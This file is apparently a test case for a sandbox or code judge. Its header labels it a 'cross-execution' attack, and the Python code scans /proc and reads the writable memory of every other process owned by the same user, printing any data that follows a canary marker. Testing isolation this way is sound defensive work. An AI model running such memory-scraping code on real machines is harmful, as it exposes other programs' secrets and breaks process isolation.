# /// attack
# category = "cross-execution"
# kind = "stdio"
# success = "canary:VICTIM"
# expected = ["wrong_answer", "sandbox_violation", "time_limit_exceeded"]
# summary = "Searches the memory of every other process of its user for a running program's data."
# ///

import os
import re

mark = b"{VICTIM_MARK}"
try:
    pids = [name for name in os.listdir("/proc") if name.isdigit()]
except OSError:
    pids = [str(pid) for pid in range(os.getpid() - 100, os.getpid() + 100)]
for pid in pids:
    if int(pid) == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if "rw" not in line or end - start > 1 << 26:
                    continue
                memory.seek(start)
                for match in re.finditer(re.escape(mark) + rb"[\w-]+", memory.read(end - start)):
                    print(match[0])
    except (OSError, OverflowError):
        continue
